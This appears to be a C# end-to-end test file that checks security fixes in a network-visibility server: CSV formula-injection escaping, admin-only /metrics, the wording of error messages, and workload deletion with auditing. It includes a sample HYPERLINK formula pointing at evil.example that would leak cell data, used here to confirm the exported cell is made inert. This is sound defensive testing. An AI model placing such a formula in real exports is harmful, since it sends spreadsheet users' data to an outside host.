using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Visibility.Ingest.Demo;
using Xunit.Abstractions;

namespace Visibility.EndToEnd.Tests;

/// <summary>
/// What a security test of <c>serve --demo</c> found in texts the server writes — CSV exports read as formulas,
/// <c>/metrics</c> open to every role, 403s naming the wrong roles, 400s naming .NET types — and the missing
/// workload deletion; each against the shared <see cref="AuthServer"/> with the request the report showed.
/// </summary>
[Collection(AuthServer.Collection)]
public sealed class SecurityTextsEndToEndTests(AuthServer server, ITestOutputHelper output)
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

    private static readonly char[] FormulaStarts = ['=', '+', '-', '@', '\t', '\r'];

    [Fact]
    public async Task FlowsCsv_LabelValueIsAFormula_CellIsWrittenInertWithALeadingQuote()
    {
        // A demo workload whose traffic keeps arriving, relabelled: its loc becomes the formula (restored after).
        var original = DemoEstate.Workloads.Single(w => w.Name == "prod-db-1");
        var labels = new Dictionary<string, string>(original.Labels) { ["loc"] = Formula };
        var relabelled = new[] { new { name = original.Name, kind = original.Kind, addresses = original.Addresses, labels } };
        var (put, putBody) = await server.SendAsync(HttpMethod.Put, "/api/v1/workloads", server.AdminKey, relabelled);
        Assert.True(put == HttpStatusCode.OK, putBody);
        try
        {
            var path = "/api/v1/flows?last=5m&limit=200&format=csv&filter=" + Uri.EscapeDataString("dst.workload = prod-db-1");
            var rows = await Eventually.WaitAsync(
                async () =>
                {
                    var (status, _, text) = await GetAsync(path, server.AdminKey);
                    Assert.True(status == HttpStatusCode.OK, text);
                    return CsvText.Parse(text);
                },
                parsed => parsed.Skip(1).Any(r => r[Column(parsed, "dst_loc")].Contains("HYPERLINK", StringComparison.Ordinal)),
                TimeSpan.FromSeconds(60), "a flow to the relabelled workload", interval: TimeSpan.FromMilliseconds(500));

            var loc = Column(rows, "dst_loc");
            var cell = rows.Skip(1).Select(r => r[loc]).First(c => c.Contains("HYPERLINK", StringComparison.Ordinal));
            Assert.Equal("'" + Formula, cell);

            // No text cell anywhere starts a formula; numbers stay numbers.
            Assert.All(rows.Skip(1).SelectMany(r => r), c => Assert.False(c.Length > 0 && FormulaStarts.Contains(c[0]), c));
            Assert.All(rows.Skip(1), r => Assert.Matches("^[0-9]+$", r[Column(rows, "bytes_out")]));
        }
        finally
        {
            var restored = new[] { new { name = original.Name, kind = original.Kind, addresses = original.Addresses, labels = original.Labels } };
            Assert.Equal(HttpStatusCode.OK, (await server.SendAsync(HttpMethod.Put, "/api/v1/workloads", server.AdminKey, restored)).Status);
        }
    }

    [Fact]
    public async Task FlowsCsvAll_MoreRowsThanTheCap_TruncationInHeaders_NoCommentRow_CursorResumes()
    {
        var (status, headers, text) = await GetAsync("/api/v1/flows?last=1h&format=csv&all=true&limit=7&maxRows=20", server.AdminKey);
        Assert.True(status == HttpStatusCode.OK, text);
        Assert.Equal("true", Header(headers, "X-Visibility-Truncated"));
        Assert.Equal("20", Header(headers, "X-Visibility-Row-Limit"));
        var cursor = Header(headers, "X-Next-Cursor");
        Assert.NotNull(cursor);
        Assert.DoesNotContain(text.Split("\r\n"), line => line.StartsWith('#'));
        var rows = CsvText.Parse(text);
        Assert.Equal("time", rows[0][0]);
        Assert.True(rows.Count - 1 >= 20, $"{rows.Count - 1} rows");

        // The cursor resumes strictly after the last row written.
        var last = DateTimeOffset.Parse(rows[^1][0], System.Globalization.CultureInfo.InvariantCulture);
        var (next, _, rest) = await GetAsync($"/api/v1/flows?last=1h&format=csv&limit=5&cursor={Uri.EscapeDataString(cursor!)}", server.AdminKey);
        Assert.Equal(HttpStatusCode.OK, next);
        Assert.All(CsvText.Parse(rest).Skip(1), r => Assert.True(DateTimeOffset.Parse(r[0], System.Globalization.CultureInfo.InvariantCulture) <= last, r[0]));

        // Everything fits: the header says so, and there is no cursor.
        var (whole, wholeHeaders, wholeText) = await GetAsync("/api/v1/flows?last=1h&format=csv&all=true&filter=" + Uri.EscapeDataString("src.ip = 192.0.2.99"), server.AdminKey);
        Assert.True(whole == HttpStatusCode.OK, wholeText);
        Assert.Equal("false", Header(wholeHeaders, "X-Visibility-Truncated"));
        Assert.Null(Header(wholeHeaders, "X-Next-Cursor"));

        // The CLI writes CSV rows only; that more rows exist goes to standard error.
        var cli = await VisibilityProcess.RunCommandAsync(
            ["flows", "--last", "1h", "--limit", "5", "--csv", "--url", server.Serve.BaseUrl],
            new Dictionary<string, string> { ["VISIBILITY_API_KEY"] = server.AdminKey });
        Assert.True(cli.ExitCode == 0, cli.Stderr);
        Assert.Equal(6, CsvText.Parse(cli.Stdout).Count);
        Assert.DoesNotContain(cli.Stdout.Split('\n'), line => line.StartsWith('#'));
        Assert.Contains("more flows", cli.Stderr, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Metrics_OnServe_AdminOnly_OtherRolesGet403NamingAnUnscopedAdmin()
    {
        foreach (var role in new[] { "viewer", "exporter", "policy-author" })
        {
            var key = await server.CreateKeyAsync($"metrics-{role}", role);
            var (status, body) = await server.SendAsync(HttpMethod.Get, "/metrics", key);
            Assert.True(status == HttpStatusCode.Forbidden, $"{role}: {(int)status} {body}");
            Assert.Equal($"role '{role}' may not do this; it needs an unscoped admin", Detail(body));
            Assert.DoesNotContain("visibility_", body, StringComparison.Ordinal);
        }

        var (adminStatus, metrics) = await server.SendAsync(HttpMethod.Get, "/metrics", server.AdminKey);
        Assert.Equal(HttpStatusCode.OK, adminStatus);
        Assert.Contains("visibility_ingest_records_total", metrics, StringComparison.Ordinal);

        // Readiness keeps its rule: any role.
        var viewer = await server.CreateKeyAsync("metrics-viewer-ready", "viewer");
        Assert.Equal(HttpStatusCode.OK, (await server.SendAsync(HttpMethod.Get, "/readyz", viewer)).Status);
    }

    [Fact]
    public async Task Forbidden_NamesExactlyTheRolesThatMay_NotTheCallersOwn()
    {
        var author = await server.CreateKeyAsync("texts-author", "policy-author");
        var viewer = await server.CreateKeyAsync("texts-viewer", "viewer");
        var exporter = await server.CreateKeyAsync("texts-exporter", "exporter");

        var (status, body) = await server.SendAsync(HttpMethod.Get, "/api/v1/export/records?last=5m&format=json", author);
        Assert.Equal(HttpStatusCode.Forbidden, status);
        Assert.Equal("role 'policy-author' may not do this; it needs one of the roles exporter, admin", Detail(body));

        Assert.Equal("role 'viewer' may not do this; it needs one of the roles policy-author, admin",
            Detail((await server.SendAsync(HttpMethod.Get, "/api/v1/policy/draft?last=1h", viewer)).Body));
        Assert.Equal("role 'exporter' may not do this; it needs an unscoped admin",
            Detail((await server.SendAsync(HttpMethod.Get, "/api/v1/keys", exporter)).Body));
    }

    [Fact]
    public async Task MalformedJsonBodies_EveryJsonEndpoint_400NamesTheFieldAndProblem_NeverADotNetType()
    {
        // The report's request: a ruleset where an object belongs.
        var (status, _, text) = await SendRawAsync(HttpMethod.Post, "/api/v1/policy/diff", "{\"before\": 5, \"after\": {}}");
        Assert.True(status == HttpStatusCode.BadRequest, text);
        var detail = Detail(text);
        Assert.Contains("$.before", detail, StringComparison.Ordinal);
        Assert.Contains("expected an object", detail, StringComparison.Ordinal);
        AssertNoType(detail);

        var endpoints = new (HttpMethod Method, string Path)[]
        {
            (HttpMethod.Put, "/api/v1/workloads"),
            (HttpMethod.Put, "/api/v1/workloads/kubernetes"),
            (HttpMethod.Post, "/api/v1/views"),
            (HttpMethod.Put, "/api/v1/views/0123456789abcdef"),
            (HttpMethod.Post, "/api/v1/export/sinks"),
            (HttpMethod.Post, "/api/v1/export/test"),
            (HttpMethod.Post, "/api/v1/policy/simulate"),
            (HttpMethod.Post, "/api/v1/policy/diff"),
            (HttpMethod.Post, "/api/v1/policy/render?format=nftables"),
            (HttpMethod.Post, "/api/v1/keys"),
        };

        // Broken syntax, wrong types at the root and inside, and a field of the wrong kind deep down.
        var bodies = new[]
        {
            "{\"name\": ",
            "{\"name\": \"x\",}",
            "\"just a string\"",
            "42",
            "[{\"name\": 5}]",
            "{\"name\": [1, 2]}",
            "{\"ruleset\": {\"rules\": [{\"ports\": [{\"from\": \"many\"}]}]}}",
            "{\"before\": {\"rules\": 3}}",
            "[{\"name\": \"w\", \"addresses\": 7}]",
            "{\"name\": \"x\", \"query\": {}}",
        };
        foreach (var (method, path) in endpoints)
        {
            foreach (var body in bodies)
            {
                var (code, _, answer) = await SendRawAsync(method, path, body);
                Assert.True(code == HttpStatusCode.BadRequest, $"{method} {path} {body}: {(int)code} {answer}");
                var problem = Detail(answer);
                output.WriteLine($"{method} {path} {body} -> {problem}");
                Assert.False(string.IsNullOrEmpty(problem), $"{method} {path} {body}: no detail in {answer}");
                AssertNoType(problem, $"{method} {path} {body}");
            }
        }

        // A type mismatch names the JSON path of the field.
        Assert.Contains("$[0].addresses", Detail((await SendRawAsync(HttpMethod.Put, "/api/v1/workloads", "[{\"name\": \"w\", \"addresses\": 7}]")).Body), StringComparison.Ordinal);
        Assert.Contains("$.query: expected a string", Detail((await SendRawAsync(HttpMethod.Post, "/api/v1/views", "{\"name\": \"x\", \"query\": {}}")).Body), StringComparison.Ordinal);
        Assert.Contains("$.ruleset.rules[0].ports[0].from: expected a whole number", Detail((await SendRawAsync(HttpMethod.Post, "/api/v1/policy/simulate", "{\"ruleset\": {\"rules\": [{\"ports\": [{\"from\": \"many\"}]}]}}")).Body), StringComparison.Ordinal);
        Assert.Contains("$.name: expected a string", Detail((await SendRawAsync(HttpMethod.Post, "/api/v1/keys", "{\"name\": [1, 2]}")).Body), StringComparison.Ordinal);

        // Query parameters the endpoint cannot bind are named the same way, without their .NET type.
        var (badLimit, _, limitBody) = await GetAsync("/api/v1/flows?last=1h&limit=lots", server.AdminKey);
        Assert.Equal(HttpStatusCode.BadRequest, badLimit);
        Assert.StartsWith("parameter 'limit': 'lots' is not valid: expected a whole number", Detail(limitBody), StringComparison.Ordinal);
    }

    [Fact]
    public async Task DeleteWorkload_Admin204ThenGoneAndNoLongerLabelsNewFlows_Others403_Unknown404_Audited()
    {
        // The demo's unknown internal source gets a workload: its flows are labelled with it.
        const string name = "sec-delete-unknown-src";
        var workload = new[] { new { name, kind = "vm", addresses = new[] { DemoEstate.UnknownSource }, labels = new Dictionary<string, string> { ["app"] = "secdel", ["env"] = "lab" } } };
        Assert.Equal(HttpStatusCode.OK, (await server.SendAsync(HttpMethod.Put, "/api/v1/workloads", server.AdminKey, workload)).Status);
        var filter = "&filter=" + Uri.EscapeDataString($"src.ip = {DemoEstate.UnknownSource}");
        await Eventually.TrueAsync(async () => (await FlowsAsync(filter)).Any(f => f.Workload == name), TimeSpan.FromSeconds(60), "a flow labelled with the new workload", interval: TimeSpan.FromMilliseconds(500));

        var viewer = await server.CreateKeyAsync("delete-viewer", "viewer");
        var exporter = await server.CreateKeyAsync("delete-exporter", "exporter");
        foreach (var key in new[] { viewer, exporter })
        {
            var (refused, refusal) = await server.SendAsync(HttpMethod.Delete, $"/api/v1/workloads/{name}", key);
            Assert.Equal(HttpStatusCode.Forbidden, refused);
            Assert.Contains("it needs an unscoped admin", Detail(refusal), StringComparison.Ordinal);
        }

        var deletedAt = DateTimeOffset.UtcNow;
        var (deleted, deletedBody) = await server.SendAsync(HttpMethod.Delete, $"/api/v1/workloads/{name}", server.AdminKey);
        Assert.True(deleted == HttpStatusCode.NoContent, deletedBody);
        var (listed, list) = await server.SendAsync(HttpMethod.Get, "/api/v1/workloads", server.AdminKey);
        Assert.Equal(HttpStatusCode.OK, listed);
        Assert.DoesNotContain(JsonDocument.Parse(list).RootElement.EnumerateArray(), w => w.GetProperty("name").GetString() == name);
        Assert.Contains("prod-db-1", list, StringComparison.Ordinal);
        Assert.DoesNotContain($"\"{name}\"", (await server.SendAsync(HttpMethod.Get, "/api/v1/labels", server.AdminKey)).Body, StringComparison.Ordinal);

        var (again, againBody) = await server.SendAsync(HttpMethod.Delete, $"/api/v1/workloads/{name}", server.AdminKey);
        Assert.Equal(HttpStatusCode.NotFound, again);
        Assert.Contains($"no workload '{name}'", Detail(againBody), StringComparison.Ordinal);

        // Flows that start well after the deletion (a record starts up to 2 s before it is written) are unlabelled;
        // the flows stored while the workload existed keep its name.
        var settled = deletedAt.AddSeconds(3);
        List<(DateTimeOffset Time, string Workload)> flows = [];
        await Eventually.TrueAsync(async () => (flows = await FlowsAsync(filter)).Any(f => f.Time > settled), TimeSpan.FromSeconds(60), "an unknown-source flow after the deletion", interval: TimeSpan.FromMilliseconds(500));
        Assert.All(flows.Where(f => f.Time > settled), f => Assert.Equal("", f.Workload));
        Assert.Contains(flows, f => f.Workload == name && f.Time < deletedAt);

        // Audited, refusals by the endpoint included (403s are stopped before it: they are in the process log).
        var (_, audit) = await server.SendAsync(HttpMethod.Get, "/api/v1/audit?last=1h&action=workloads.delete", server.AdminKey);
        var entries = JsonDocument.Parse(audit).RootElement.EnumerateArray().ToList();
        var adminId = "key:" + server.AdminKey.Split('_')[1];
        Assert.Contains(entries, e => e.GetProperty("principal").GetString() == adminId && e.GetProperty("outcome").GetString() == "204" && e.GetProperty("target").GetString() == $"name={name}");
        Assert.Contains(entries, e => e.GetProperty("outcome").GetString() == "404" && e.GetProperty("target").GetString() == $"name={name}");
    }

    private async Task<List<(DateTimeOffset Time, string Workload)>> FlowsAsync(string filter)
    {
        var (status, _, text) = await GetAsync("/api/v1/flows?last=10m&limit=2000" + filter, server.AdminKey);
        Assert.True(status == HttpStatusCode.OK, text);
        return [.. JsonDocument.Parse(text).RootElement.GetProperty("flows").EnumerateArray()
            .Select(f => (f.GetProperty("time").GetDateTimeOffset(), f.GetProperty("src").GetProperty("workload").GetString()!))];
    }

    private static void AssertNoType(string detail, string? where = null)
    {
        foreach (var leak in new[] { "Visibility.", "System.", "+" })
        {
            Assert.False(detail.Contains(leak, StringComparison.Ordinal), $"{where}: '{leak}' in: {detail}");
        }
    }

    private async Task<(HttpStatusCode Status, HttpResponseHeaders Headers, string Body)> GetAsync(string path, string key)
    {
        using var http = new HttpClient { BaseAddress = new Uri(server.Serve.BaseUrl), Timeout = TimeSpan.FromSeconds(60) };
        using var request = new HttpRequestMessage(HttpMethod.Get, path);
        request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", key);
        using var response = await http.SendAsync(request);
        return (response.StatusCode, response.Headers, await response.Content.ReadAsStringAsync());
    }

    private async Task<(HttpStatusCode Status, HttpResponseHeaders Headers, string Body)> SendRawAsync(HttpMethod method, string path, string json)
    {
        using var http = new HttpClient { BaseAddress = new Uri(server.Serve.BaseUrl), Timeout = TimeSpan.FromSeconds(60) };
        using var request = new HttpRequestMessage(method, path) { Content = new StringContent(json, Encoding.UTF8, "application/json") };
        request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", server.AdminKey);
        using var response = await http.SendAsync(request);
        return (response.StatusCode, response.Headers, await response.Content.ReadAsStringAsync());
    }

    private static string? Header(HttpResponseHeaders headers, string name) =>
        headers.TryGetValues(name, out var values) ? values.Single() : null;

    private static string Detail(string problem)
    {
        try
        {
            return JsonDocument.Parse(problem).RootElement.TryGetProperty("detail", out var detail) ? detail.GetString() ?? "" : "";
        }
        catch (JsonException)
        {
            return "";
        }
    }

    private static int Column(List<string[]> rows, string name) => Array.IndexOf(rows[0], name);
}
